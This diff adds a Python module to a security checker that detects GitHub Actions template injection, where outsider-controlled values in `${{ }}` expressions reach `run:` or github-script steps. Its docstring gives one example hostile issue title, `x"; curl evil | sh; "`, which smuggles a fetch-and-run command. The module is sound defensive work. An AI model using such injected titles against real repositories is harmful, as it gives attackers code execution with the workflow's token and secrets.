@@ -1,0 +1,186 @@
+"""GitHub Actions template injection: a `${{ }}` expression an outsider writes, expanded into a
+job's script -> the `template_injection` facet, judged by NHI325
+(`checker.checks.ci_injection`).
+
+GitHub expands `${{ ... }}` in a `run:` value (and in `actions/github-script`'s `script:`)
+before the shell or Node sees it, so an issue titled `x"; curl evil | sh; "` becomes a command
+of the job, run with its GITHUB_TOKEN and the secrets it references. That is code execution
+by whoever can write the value, when whoever can cause the event may write it
+(`OUTSIDER_TRIGGERS`).
+
+What is read, per job of a workflow with an outsider trigger (facts only; the check decides):
+- each `run:` of a step, and the `script:` input of `actions/github-script`;
+- in them, each `${{ ... }}` whose expression reads a value the event's author chose
+  (`_untrusted`): a context path ending in `title`, `body`, `message`, `ref`, `label`,
+  `email`, `default_branch`, `page_name`, a git author's or committer's `name`,
+  `head_branch` or `display_title`, under the event's issue, pull request (its head, not its
+  base), comment, review, discussion, wiki pages, commits or triggering run; `github.head_ref`;
+  or a whole such object serialised (`toJSON(github.event.issue)`); or `env.NAME` where the
+  workflow's, job's or step's `env:` sets NAME from one of those (the template is expanded
+  before the shell, so `${{ env.NAME }}` is the same injection). An expression whose result
+  is a boolean (`contains(...)`, `startsWith(...)`, `endsWith(...)`, a comparison with no
+  `&&`/`||`) is not text, and passing the value through `env:` and reading `"$NAME"` in the
+  script is the safe form: neither is read.
+
+Not read: composite actions (their triggers are the caller's), step outputs computed from
+such a value (`${{ steps.x.outputs.title }}`), and triggers whose actor already has write
+access (`push`, `workflow_dispatch`) or whose fork runs get no secrets (`pull_request`).
+
+The facet: address `<path>#jobs.<id>.template-injection`, lines from its first to its last
+injected line, `attribute_lines` `anchor` (the first) and `on.<trigger>` for each outsider
+trigger; `secret_sinks` `trigger:<event>` for each, and `injects:<line> <step> <expression>`
+for each occurrence (the expression's text, never a value); `inputs` the trigger lines, so a
+change of the triggers alone touches it.
+
+Sources: GitHub, "Script injections"
+(https://docs.github.com/en/actions/concepts/security/script-injections: contexts ending in
+body, default_branch, email, head_ref, label, message, name, page_name, ref and title are
+untrusted; an intermediate environment variable is the fix); GitHub Security Lab, "Keeping
+your GitHub Actions and workflows secure Part 2: Untrusted input"
+(https://securitylab.github.com/resources/github-actions-untrusted-input/); who may trigger
+each event: https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows;
+zizmor's `template-injection` (https://docs.zizmor.sh/audits/#template-injection) is the peer.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+from dataclasses import replace
+
+from yaml.nodes import MappingNode, Node
+
+from checker.model import IdentityObject, Location
+from checker.parsers.github_keys import trigger_lines
+from checker.safeyaml import get, items, scalar, sequence
+from checker.secrets.facets import facet
+
+TYPE = "template_injection"
+#: Events someone without write access causes, whose run has the base repository's token and
+#: secrets (a fork's `pull_request_review*` run has neither, but a review of a pull request
+#: from the repository itself, which anyone may write, has both); in the order a message
+#: names the first.
+OUTSIDER_TRIGGERS = (
+    "pull_request_target", "issue_comment", "issues", "discussion", "discussion_comment",
+    "pull_request_review", "pull_request_review_comment", "workflow_run", "gollum")
+_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)
+#: An event object whose text fields its author chose, and the path after it.
+_EVENT_PATH = re.compile(
+    r"github\.event\.(issue|pull_request|comment|review|review_comment|discussion|head_commit"
+    r"|workflow_run|pages|commits)((?:\.[\w*-]+|\[[^\]]*\])*)")
+#: The last key of an untrusted path (GitHub's list); `name` only of a git author or
+#: committer (a repository's name is restricted to `[\w.-]`).
+_FIELDS = frozenset({"title", "body", "message", "ref", "label", "email", "default_branch",
+                     "page_name", "head_branch", "display_title"})
+_GIT_PEOPLE = frozenset({"author", "committer"})
+#: Parts of an event object its author does not choose: the base branch, labels and users
+#: (set by maintainers or GitHub).
+_TRUSTED_PARTS = frozenset({"base", "labels", "label", "user", "milestone", "assignee",
+                            "assignees", "requested_reviewers", "sender", "repository"})
+_HEAD_REF = re.compile(r"\bgithub\.head_ref\b")
+_WHOLE = re.compile(
+    r"toJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment"
+    r"|discussion|head_commit|workflow_run|pages|commits))?\s*\)", re.I)
+_ENV_REF = re.compile(r"\benv\.([A-Za-z_][\w-]*)")
+_BOOLEAN_CALL = re.compile(r"(?i)^(?:contains|startsWith|endsWith)\s*\(")
+_COMPARISON = re.compile(r"==|!=|<=|>=|(?<![-=])[<>]")
+_LITERAL = re.compile(r"'(?:[^']|'')*'")
+
+
+def injections(path: str, root: MappingNode, jobs: Sequence[tuple[str, Node, Node]],
+               raw: list[str]) -> list[IdentityObject]:
+    """The `template_injection` facets of a workflow (see the module doc), one per job with an
+    injected expression; none unless it has an `OUTSIDER_TRIGGERS` trigger. `jobs` are its
+    `(id, key, job)` mapping entries, `raw` its text split on `\\n`; lines are 1-based."""
+    lines = trigger_lines(root)
+    events = [e for e in OUTSIDER_TRIGGERS if f"on.{e}" in lines]
+    if not events:
+        return []
+    tainted = _tainted_env(get(root, "env"), frozenset())
+    out: list[IdentityObject] = []
+    for job_id, _, job in jobs:
+        found = _job(job, _tainted_env(get(job, "env"), tainted), raw)
+        if not found:
+            continue
+        first, last = min(n for n, _, _ in found), max(n for n, _, _ in found)
+        sinks = [*(f"trigger:{e}" for e in events),
+                 *(f"injects:{n} {step} {expr}" for n, step, expr in found)]
+        obj = facet(path, TYPE, "ci_credential", "github",
+                    f"{path}#jobs.{job_id}.template-injection", first, last, first, sinks)
+        out.append(replace(
+            obj, attribute_lines={**obj.attribute_lines,
+                                  **{f"on.{e}": lines[f"on.{e}"] for e in events}},
+            inputs=tuple((f"on: {e}", Location(path, lines[f"on.{e}"], lines[f"on.{e}"]))
+                         for e in events)))
+    return out
+
+
+def _tainted_env(env: Node | None, outer: frozenset[str]) -> frozenset[str]:
+    """`outer` plus the `env:` names whose value reads an untrusted value."""
+    return outer | {name for name, _, value in items(env)
+                    if any(_untrusted(e, outer) for e in _expressions(scalar(value) or ""))}
+
+
+def _expressions(text: str) -> list[str]:
+    return [m.group(1).strip() for m in _EXPRESSION.finditer(text)]
+
+
+def _job(job: Node, tainted: frozenset[str], raw: list[str]) -> list[tuple[int, str, str]]:
+    """(line, step, expression) of each injected expression of the job's steps."""
+    out: list[tuple[int, str, str]] = []
+    for index, step in enumerate(sequence(get(job, "steps"))):
+        if not isinstance(step, MappingNode):
+            continue
+        names = _tainted_env(get(step, "env"), tainted)
+        uses = (scalar(get(step, "uses")) or "").split("@", 1)[0].strip().lower()
+        node = get(step, "run") if not uses else (
+            get(get(step, "with"), "script") if uses == "actions/github-script" else None)
+        if node is None or scalar(node) is None:
+            continue
+        where = f"steps[{index}]" + (".with.script" if uses else ".run")
+        out.extend((n, where, expr) for n, expr in _placed(node, names, raw))
+    return out
+
+
+def _placed(node: Node, tainted: frozenset[str], raw: list[str]) -> list[tuple[int, str]]:
+    """(line, expression) of each untrusted expression of a script scalar, on the source line
+    that holds it: read from the file's `raw` lines within the node's marks (a folded or
+    quoted scalar's value joins its lines; its source does not)."""
+    start, end = node.start_mark, node.end_mark
+    last = end.line - 1 if end.column == 0 and end.line > start.line else end.line
+    out: list[tuple[int, str]] = []
+    for number in range(start.line, min(last, len(raw) - 1) + 1):
+        text = raw[number]
+        if number == last and last == end.line:
+            text = text[:end.column]
+        if number == start.line:
+            text = text[start.column:]
+        out.extend((number + 1, e) for e in _expressions(text) if _untrusted(e, tainted))
+    return out
+
+
+def _untrusted(expression: str, tainted: frozenset[str]) -> bool:
+    """True when `expression` (inside `${{ }}`) yields text an outsider wrote: see the module
+    doc. A boolean result is not text."""
+    text = expression.strip()
+    bare = _LITERAL.sub("''", text)  # operators inside a string literal are text
+    if (_BOOLEAN_CALL.match(text) and text.endswith(")")) or (
+            _COMPARISON.search(bare) and "&&" not in bare and "||" not in bare):
+        return False
+    if _HEAD_REF.search(text) or _WHOLE.search(text):
+        return True
+    if any(m.group(1) in tainted for m in _ENV_REF.finditer(text)):
+        return True
+    return any(_untrusted_path(m.group(2)) for m in _EVENT_PATH.finditer(text))
+
+
+def _untrusted_path(rest: str) -> bool:
+    """True when the path after an event object (`.head.ref`, `.commits[0].author.name`)
+    ends in an author-chosen field outside `_TRUSTED_PARTS`."""
+    parts = [p for p in re.split(r"[.\[\]]+", rest) if p and p != "*" and not p.isdigit()]
+    if not parts or any(p in _TRUSTED_PARTS for p in parts[:-1]):
+        return False
+    last = parts[-1]
+    if last == "name":
+        return len(parts) > 1 and parts[-2] in _GIT_PEOPLE
+    return last in _FIELDS
